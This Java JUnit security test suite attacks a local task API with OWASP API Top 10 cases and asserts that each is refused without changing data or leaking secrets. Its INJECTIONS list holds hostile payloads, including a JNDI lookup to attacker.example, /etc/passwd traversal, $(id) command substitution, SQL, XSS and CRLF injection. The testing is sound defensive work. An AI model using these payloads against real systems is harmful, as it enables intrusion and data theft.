package dev.taskapi.security;

import static dev.taskapi.security.SecurityStack.assertProblemJson;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.taskapi.domain.TaskFields;
import dev.taskapi.e2e.ApiClient.Account;
import dev.taskapi.e2e.ApiClient.Response;
import dev.taskapi.e2e.ApiClient;
import dev.taskapi.e2e.Mailbox;
import dev.taskapi.schema.TaskItem;
import dev.taskapi.testing.TestAccounts;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * The OWASP API Security Top 10 (2023) items that apply to this API, attacked over real HTTP against the local
 * stack. Every case asserts the exact status, a problem+json body for errors, and that the table is exactly as
 * before (apart from failed-login counters, which failed logins are meant to write). When the suite ends, the
 * stack's whole output is searched for every password, token, hash and key it handled.
 */
class AttackSuiteTest {
  /**
   * Every attribute a task item may have (a field at its absent value may have none); anything else in a stored
   * task came from a request body.
   */
  private static final Set<String> TASK_ATTRIBUTES = taskAttributes();

  private static Set<String> taskAttributes() {
    Set<String> names =
        new HashSet<>(Set.of("pk", "sk", TaskItem.TASK_ID, TaskItem.USER_ID, TaskItem.CREATED_AT, TaskItem.UPDATED_AT,
            TaskItem.VERSION, TaskItem.COMPLETED_SK, TaskItem.POSITION_SK, TaskItem.LIST_ID, TaskItem.POSITION,
            TaskItem.CREATE_FINGERPRINT, TaskItem.CREATED_SK));
    TaskFields.ALL.forEach(field -> names.add(field.name()));
    return Set.copyOf(names);
  }

  private static final AtomicInteger CASES = new AtomicInteger();
  /** Every password and Authorization value sent, and every token received: none may ever be logged. */
  private static final Set<String> SENSITIVE = new HashSet<>();

  private static SecurityStack stack;
  private static ApiClient api;
  private static Account victim;
  private static Account attacker;
  private static List<String> victimTaskIds;
  private static String victimCursor;

  @BeforeAll
  static void setUp() {
    stack = SecurityStack.start();
    api = stack.client();
    victim = remember(api.newAccount());
    attacker = remember(api.newAccount());
    victimTaskIds = new ArrayList<>();
    for (int i = 0; i < 3; i++) {
      Response created = api.createTask(victim, Map.of("title", "victim task " + i));
      victimTaskIds.add(created.json().path("task").path("uuid").asText());
    }
    victimCursor = api.listTasks(victim, "?limit=1").json().path("next_cursor").asText();
  }

  @AfterAll
  static void noSecretEverReachedTheLogs() {
    try {
      String logs = stack.capturedLogs();
      assertTrue(logs.contains("POST /auth/register"), "the capture saw the stack's access log");
      assertFalse(logs.contains("$argon2"), "an Argon2 hash was logged");
      for (String secret : stack.stackSecrets()) {
        assertFalse(logs.contains(secret), "a key or session token was logged");
      }
      for (String value : SENSITIVE) {
        assertFalse(logs.contains(value), () -> "a password or token was logged: " + value.substring(0, 4) + "…");
      }
      System.out.println("Attack suite: " + CASES.get() + " attack cases passed; " + SENSITIVE.size()
          + " passwords and tokens, 3 stack secrets and every Argon2 hash absent from " + logs.length()
          + " characters of captured output");
    } finally {
      stack.close();
    }
  }

  // ---- API1 Broken Object Level Authorization ----

  @TestFactory
  Stream<DynamicTest> anotherUsersTaskIdsRealOrGuessedGet404AndChangeNothing() {
    List<String> ids = new ArrayList<>(victimTaskIds);
    ids.add(UUID.randomUUID().toString());
    ids.add("00000000-0000-0000-0000-000000000000");
    ids.add("ffffffff-ffff-ffff-ffff-ffffffffffff");
    ids.add(victimTaskIds.getFirst().toUpperCase());
    return ApiRoutes.authenticatedRoutes().stream()
        .filter(route -> route.path().contains("{task_id}"))
        .flatMap(route -> ids.stream().map(id -> dynamicTest(route + " with " + id, () ->
            attack(request(route, id, attacker.bearer(), null), 404))));
  }

  @Test
  void anotherUsersCursorIs400AndTheListShowsOnlyTheCallersTasks() {
    attack(request(new ApiRoutes("GET", "/tasks?cursor=" + victimCursor, true, false), "", attacker.bearer(), null),
        400);
    Response own = attack(request(new ApiRoutes("GET", "/tasks?limit=1000", true, false), "", attacker.bearer(), null),
        200);
    for (JsonNode task : own.json().path("tasks")) {
      assertEquals(attacker.id(), task.path("user_id").asText());
    }
    assertEquals(3, api.listTasks(victim, "").json().path("tasks").size(), "the victim's tasks are all there");
  }

  // ---- API2 Broken Authentication ----

  @TestFactory
  Stream<DynamicTest> forgedAndMalformedTokensGet401OnEveryAuthenticatedRoute() {
    Map<String, String> tokens = ForgedTokens.all(stack.api().signingKey(), victim.id(), victim.token());
    SENSITIVE.addAll(tokens.values().stream().filter(t -> t.length() > 20).toList());
    return ApiRoutes.authenticatedRoutes().stream()
        .flatMap(route -> tokens.entrySet().stream().map(token -> dynamicTest(route + ": " + token.getKey(), () -> {
          Response response = attack(request(route, victimTaskIds.getFirst(), token.getValue(),
              "{\"title\":\"forged\"}"), 401);
          assertEquals("Bearer", response.header("WWW-Authenticate").orElse(null));
        })));
  }

  @TestFactory
  Stream<DynamicTest> aMissingOrRepeatedAuthorizationHeaderGets401() {
    return ApiRoutes.authenticatedRoutes().stream().flatMap(route -> Stream.of(
        dynamicTest(route + ": no header", () -> attack(build(route, victimTaskIds.getFirst(), List.of(),
            "{\"title\":\"x\"}"), 401)),
        dynamicTest(route + ": a forged header, then a valid one", () -> attack(build(route, victimTaskIds.getFirst(),
            List.of("Bearer a.b.c", victim.bearer()), "{\"title\":\"x\"}"), 401)),
        dynamicTest(route + ": a valid header, then a forged one", () -> attack(build(route,
            victimTaskIds.getFirst(), List.of(victim.bearer(), "Bearer a.b.c"), "{\"title\":\"x\"}"), 401))));
  }

  @Test
  void aValidTokenStillWorksSoThe401sAboveAreNotVacuous() {
    assertEquals(200, api.listTasks(victim, "").status());
  }

  @Test
  void repeatedFailedLoginsLockTheAccountWith429AndRetryAfterButNothingElseChanges() {
    Account target = remember(api.newAccount());
    for (int i = 0; i < 10; i++) {
      attack(jsonPost("/auth", "{\"email\":\"" + target.email() + "\",\"password\":\"guess-" + i + "\"}"), 401);
    }
    Response locked = attack(jsonPost("/auth", "{\"email\":\"" + target.email().toUpperCase()
        + "\",\"password\":\"" + target.password() + "\"}"), 429);
    long retryAfter = Long.parseLong(locked.header("Retry-After").orElseThrow());
    assertTrue(retryAfter > 800 && retryAfter <= 900, "about 15 minutes: " + retryAfter);
    assertTrue(stack.table().contains("LOGIN#" + target.email().toLowerCase(), "ATTEMPTS"));
    assertEquals(200, api.listTasks(target, "").status(), "tokens issued before still work");
  }

  // ---- API3 Broken Object Property Level Authorization (mass assignment) ----

  @Test
  void userIdAndCreatedAtInATaskBodyAreIgnoredAndItsUuidIsAnIdInTheCallersOwnPartition() {
    String chosenId = "019a3c1e-7f4b-7c2d-9e8f-0a1b2c3d4e5f";
    Response created = api.createTask(attacker, Map.of("title", "mine", "user_id", victim.id(), "uuid", chosenId,
        "created_at", "1999-01-01T00:00:00.000Z", "task_id", chosenId, "pk", "USER#" + victim.id()));
    CASES.incrementAndGet();
    assertEquals(201, created.status(), created.text());
    JsonNode task = created.json().path("task");
    assertEquals(attacker.id(), task.path("user_id").asText());
    assertEquals(chosenId, task.path("uuid").asText(), "a client's id (issue 23), only ever in its own partition");
    assertFalse(task.path("created_at").asText().startsWith("1999"));
    assertFalse(stack.items().containsKey("USER#" + victim.id() + "|TASK#" + chosenId));
    Map<String, AttributeValue> stored =
        stack.items().get("USER#" + attacker.id() + "|TASK#" + task.path("uuid").asText());
    assertTrue(TASK_ATTRIBUTES.containsAll(stored.keySet()), stored.keySet().toString());
    assertEquals(3, api.listTasks(victim, "").json().path("tasks").size(), "nothing landed in the victim's list");
  }

  @Test
  void idAndPasswordHashInARegistrationAreIgnored() {
    String email = "mass-" + UUID.randomUUID() + "@example.com";
    String password = TestAccounts.PASSWORD;
    SENSITIVE.add(password);
    Response registered = api.post("/auth/register", Map.of("username", "m", "email", email, "password", password,
        "id", victim.id(), "user_id", victim.id(), "password_hash", "$argon2id$v=19$m=8,t=1,p=1$AAAA$AAAA",
        "created_at", "1999-01-01T00:00:00Z"));
    CASES.incrementAndGet();
    assertEquals(200, registered.status(), registered.text());
    assertNotEquals(victim.id(), registered.json().path("user").path("id").asText());
    SENSITIVE.add(registered.json().path("token").asText());
    assertEquals(200, api.login(email, password).status(), "the password, not the sent hash, is what logs in");
  }

  // ---- API4 Unrestricted Resource Consumption ----

  @TestFactory
  Stream<DynamicTest> oversizedBodiesGet413() {
    return ApiRoutes.bodyRoutes().stream().flatMap(route -> Stream.of(64 * 1024 + 1, 1024 * 1024, 11 * 1024 * 1024)
        .map(size -> dynamicTest(route + " with " + size + " bytes", () ->
            attack(request(route, "", attacker.bearer(), "{\"title\":\"" + "x".repeat(size) + "\"}"), 413))));
  }

  @TestFactory
  Stream<DynamicTest> deeplyNestedJsonGets400() {
    String nested = "[".repeat(10_000) + "]".repeat(10_000);
    return ApiRoutes.bodyRoutes().stream().flatMap(route -> Stream.of(
        dynamicTest(route + ": 10,000 nested arrays in a field", () ->
            attack(request(route, "", attacker.bearer(), "{\"title\":" + nested + ",\"email\":" + nested + "}"), 400)),
        dynamicTest(route + ": 10,000 nested arrays as the body", () ->
            attack(request(route, "", attacker.bearer(), nested), 400))));
  }

  @TestFactory
  Stream<DynamicTest> aLongStringInEveryFieldGets400() {
    String longString = "x".repeat(60_000);
    Map<String, List<String>> fields = Map.of(
        "/auth/register", List.of("username", "email", "password"),
        "/auth", List.of("email"),
        "/auth/refresh", List.of("refresh_token"),
        "/auth/logout", List.of("refresh_token"),
        "/auth/password-reset", List.of("email"),
        "/auth/password-reset/confirm", List.of("token", "new_password"),
        "/tasks", List.of("title", "description"),
        "/lists", List.of("title"));
    return ApiRoutes.bodyRoutes().stream().flatMap(route -> fields.get(route.path()).stream().map(field ->
        dynamicTest(route + ": 60,000 characters in " + field, () -> {
          ObjectNode body = validBody(route);
          body.put(field, longString);
          Response response = attack(request(route, "", attacker.bearer(), body.toString()), 400);
          assertEquals(field, response.json().path("invalid_params").path(0).path("name").asText());
        })));
  }

  @TestFactory
  Stream<DynamicTest> hugeOrMalformedLimitsAndCursorsGet400() {
    Stream<String> limits = Stream.of("0", "-1", "1001", "1000000000000", "99999999999999999999", "1e3", "0x10",
            "ten", "", "1%20", "%00", "1%3BDROP%20TABLE%20tasks")
        .map(limit -> "?limit=" + limit);
    Stream<String> cursors = Stream.of("?cursor=" + "A".repeat(6_000), "?cursor=", "?cursor=%FF%FE");
    return Stream.concat(limits, cursors).map(query -> dynamicTest("GET /tasks" + abbreviate(query), () ->
        attack(request(new ApiRoutes("GET", "/tasks" + query, true, false), "", attacker.bearer(), null), 400)));
  }

  @Test
  void aUrlOrTokenOverTheGatewaysHeaderLimitIs413() {
    attack(request(new ApiRoutes("GET", "/tasks?cursor=" + "A".repeat(40_000), true, false), "", attacker.bearer(),
        null), 413);
    attack(request(ApiRoutes.ALL.get(3), "", "Bearer " + "a".repeat(8_000) + "." + "b".repeat(8_000) + ".c", null),
        413);
  }

  @Test
  void manyUnknownFieldsAreIgnoredAndNotStored() {
    ObjectNode body = ApiClient.object().put("title", "many fields");
    for (int i = 0; i < 3000; i++) {
      body.put("f" + i, i);
    }
    Response created = api.createTask(attacker, body.toString());
    CASES.incrementAndGet();
    assertEquals(201, created.status(), created.text());
    Map<String, AttributeValue> stored = stack.items()
        .get("USER#" + attacker.id() + "|TASK#" + created.json().path("task").path("uuid").asText());
    assertTrue(TASK_ATTRIBUTES.containsAll(stored.keySet()), "only the task's own attributes: " + stored.keySet());
  }

  // ---- API8 Security Misconfiguration / injection ----

  private static final List<String> INJECTIONS = List.of(
      "' OR '1'='1", "\"; DROP TABLE tasks; --", "admin'--", "{\"$ne\": null}", "<script>alert(1)</script>",
      "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "USER#" + UUID.randomUUID(), "TASK#*",
      "attribute_exists(pk)", "%00", "\\u0000", "{{7*7}}", "`id`", "$(id)", "a\r\nSet-Cookie: x=y");

  @TestFactory
  Stream<DynamicTest> injectionInTaskFieldsIsStoredAndReturnedVerbatim() {
    return INJECTIONS.stream().flatMap(payload -> Stream.of("title", "description").map(field ->
        dynamicTest("POST /tasks " + field + " = " + payload, () -> {
          ObjectNode body = ApiClient.object().put("title", "t").put(field, payload);
          Response created = api.createTask(attacker, body.toString());
          CASES.incrementAndGet();
          assertEquals(201, created.status(), created.text());
          assertEquals(payload, created.json().path("task").path(field).asText());
          String key = "USER#" + attacker.id() + "|TASK#" + created.json().path("task").path("uuid").asText();
          assertEquals(payload, stack.items().get(key).get(field).s());
        })));
  }

  @TestFactory
  Stream<DynamicTest> injectionInLoginFieldsIs401() {
    return INJECTIONS.stream().flatMap(payload -> Stream.of(
        dynamicTest("POST /auth email = " + payload, () ->
            attack(jsonPost("/auth", ApiClient.object().put("email", payload).put("password", "whatever1").toString()),
                401)),
        dynamicTest("POST /auth password = " + payload, () ->
            attack(jsonPost("/auth", ApiClient.object().put("email", "n-" + UUID.randomUUID() + "@example.com")
                .put("password", payload).toString()), 401))));
  }

  @TestFactory
  Stream<DynamicTest> injectionInRegistrationEmailIs400() {
    return INJECTIONS.stream().map(payload -> dynamicTest("POST /auth/register email = " + payload, () ->
        attack(jsonPost("/auth/register", ApiClient.object().put("username", "u").put("email", payload)
            .put("password", TestAccounts.PASSWORD).toString()), 400)));
  }

  @TestFactory
  Stream<DynamicTest> injectionInPathSegmentsAndQueryIs400() {
    return INJECTIONS.stream().flatMap(payload -> {
      String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8).replace("+", "%20");
      return Stream.of(
          dynamicTest("DELETE /tasks/" + payload, () -> attack(request(ApiRoutes.ALL.get(4), encoded,
              attacker.bearer(), null), 400)),
          dynamicTest("GET /tasks?cursor=" + payload, () -> attack(request(new ApiRoutes("GET",
              "/tasks?cursor=" + encoded, true, false), "", attacker.bearer(), null), 400)),
          dynamicTest("GET /tasks?limit=" + payload, () -> attack(request(new ApiRoutes("GET",
              "/tasks?limit=" + encoded, true, false), "", attacker.bearer(), null), 400)));
    });
  }

  // ---- wrong content types ----

  @TestFactory
  Stream<DynamicTest> aBodyThatIsNotJsonGets415() {
    return ApiRoutes.bodyRoutes().stream().flatMap(route -> Stream.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/json", "application/jsonp",
            "application/octet-stream")
        .map(type -> dynamicTest(route + " as " + type, () -> attack(build(route, "", List.of(attacker.bearer()),
            validBody(route).toString(), type), 415))));
  }

  /**
   * Security finding 6: what a cross-site {@code fetch(url, {mode: "no-cors", body: new Blob([json])})} sends, a
   * JSON body with no Content-Type and so no CORS preflight, is refused on every route with a body.
   */
  @TestFactory
  Stream<DynamicTest> aJsonBodyWithoutContentTypeGets415() {
    return ApiRoutes.bodyRoutes().stream().map(route -> dynamicTest(route + " without Content-Type", () ->
        attack(withoutContentType(route.pathFor(victimTaskIds.getFirst()), route.method(), validBody(route),
            attacker.bearer()), 415)));
  }

  /**
   * The same, for a real victim: the requests a foreign page would make its visitors' browsers send change
   * nothing, not even a password-attempt counter, and send no mail.
   */
  @Test
  void withoutContentTypeNoLoginCountsNoResetMailIsSentNoAccountOrTaskIsCreated() {
    Map<String, Map<String, AttributeValue>> before = stack.table().snapshot();
    Mailbox mailbox = new Mailbox(stack.api().stack().runtime().mailDir());
    int mailsBefore = mailbox.messagesTo(victim.email()).size();
    String newEmail = "csrf-" + UUID.randomUUID() + "@example.com";
    List<HttpRequest> requests = List.of(
        withoutContentType("/auth", "POST",
            ApiClient.object().put("email", victim.email()).put("password", "a wrong password"), null),
        withoutContentType("/auth/password-reset", "POST", ApiClient.object().put("email", victim.email()), null),
        withoutContentType("/auth/register", "POST", ApiClient.object().put("username", "u").put("email", newEmail)
            .put("password", "long enough password"), null),
        withoutContentType("/tasks", "POST", ApiClient.object().put("title", "planted"), victim.bearer()));
    for (HttpRequest request : requests) {
      Response response = api.exchange(request);
      assertEquals(415, response.status(), () -> request.uri() + " -> " + response.text());
      assertProblemJson(response);
    }
    assertEquals(before, stack.table().snapshot(), "a request without Content-Type changed the table");
    assertEquals(mailsBefore, mailbox.messagesTo(victim.email()).size(), "a reset mail was sent");
    assertEquals(401, api.login(newEmail, "long enough password").status(), "the account was registered");
  }

  private static HttpRequest withoutContentType(String path, String method, ObjectNode body, String authorization) {
    HttpRequest.Builder request = api.request(path).method(method, BodyPublishers.ofString(body.toString()));
    if (authorization != null) {
      request.header("Authorization", authorization);
    }
    HttpRequest built = request.build();
    assertTrue(built.headers().firstValue("Content-Type").isEmpty());
    return built;
  }

  // ---- helpers ----

  /** Sends the request and asserts its exact status, the problem body of an error and an unchanged table. */
  private static Response attack(HttpRequest request, int expectedStatus) {
    Map<String, Map<String, AttributeValue>> before = stack.items();
    Response response = api.exchange(request);
    CASES.incrementAndGet();
    assertEquals(expectedStatus, response.status(), () -> request.uri() + " -> " + response.text());
    if (expectedStatus >= 400) {
      assertProblemJson(response);
    }
    // From a function or from the gateway itself, every answer carries the security headers.
    assertEquals("nosniff", response.header("X-Content-Type-Options").orElse(null));
    assertEquals("no-store", response.header("Cache-Control").orElse(null));
    assertEquals("DENY", response.header("X-Frame-Options").orElse(null));
    assertTrue(response.header("Strict-Transport-Security").orElse("").startsWith("max-age="));
    assertEquals("no-referrer", response.header("Referrer-Policy").orElse(null));
    assertEquals(before, stack.items(), "the table changed");
    return response;
  }

  private static HttpRequest request(ApiRoutes route, String taskId, String authorization, String body) {
    return build(route, taskId, authorization == null ? List.of() : List.of(authorization), body);
  }

  private static HttpRequest build(ApiRoutes route, String taskId, List<String> authorizations, String body) {
    return build(route, taskId, authorizations, body, "application/json");
  }

  private static HttpRequest build(
      ApiRoutes route, String taskId, List<String> authorizations, String body, String contentType) {
    boolean sendsBody = route.takesBody() && body != null;
    HttpRequest.Builder request = api.request(route.pathFor(taskId))
        .method(route.method(), sendsBody ? BodyPublishers.ofString(body) : BodyPublishers.noBody());
    if (sendsBody) {
      request.header("Content-Type", contentType);
    }
    for (String authorization : authorizations) {
      request.header("Authorization", authorization);
    }
    return request.build();
  }

  private static HttpRequest jsonPost(String path, String body) {
    return build(new ApiRoutes("POST", path, false, true), "", List.of(), body);
  }

  private static ObjectNode validBody(ApiRoutes route) {
    return switch (route.path()) {
      case "/auth/register" -> ApiClient.object().put("username", "u").put("email", "v-" + UUID.randomUUID()
          + "@example.com").put("password", TestAccounts.PASSWORD);
      case "/auth" -> ApiClient.object().put("email", "nobody@example.com").put("password", TestAccounts.PASSWORD);
      case "/auth/refresh", "/auth/logout" -> ApiClient.object().put("refresh_token", "not.a-token");
      case "/auth/password-reset" -> ApiClient.object().put("email", "nobody@example.com");
      case "/auth/password-reset/confirm" -> ApiClient.object().put("token", "not-a-token")
          .put("new_password", TestAccounts.PASSWORD);
      default -> ApiClient.object().put("title", "t");
    };
  }

  private static Account remember(Account account) {
    SENSITIVE.add(account.password());
    SENSITIVE.add(account.token());
    return account;
  }

  private static String abbreviate(String value) {
    return value.length() <= 40 ? value : value.substring(0, 20) + "…(" + value.length() + " characters)";
  }

}
